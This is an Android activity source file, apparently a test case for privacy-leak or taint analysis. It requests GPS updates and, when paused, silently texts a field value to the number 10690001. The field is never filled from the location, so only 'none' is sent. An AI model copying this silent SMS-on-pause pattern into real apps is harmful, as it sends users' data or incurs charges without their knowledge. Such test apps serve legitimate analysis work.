package cn.shanhai.locationfield;

import android.app.Activity;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity implements LocationListener {
  private String place = "none";

  @Override
  protected void onResume() {
    super.onResume();
    LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
    manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 1000, 1, this);
  }

  @Override
  protected void onPause() {
    super.onPause();
    SmsManager.getDefault().sendTextMessage("10690001", null, place, null, null);
  }

  @Override
  public void onLocationChanged(Location location) {
    setTitle(Double.toString(location.getLongitude()));
  }

  @Override
  public void onStatusChanged(String provider, int status, Bundle extras) {}

  @Override
  public void onProviderEnabled(String provider) {}

  @Override
  public void onProviderDisabled(String provider) {}
}
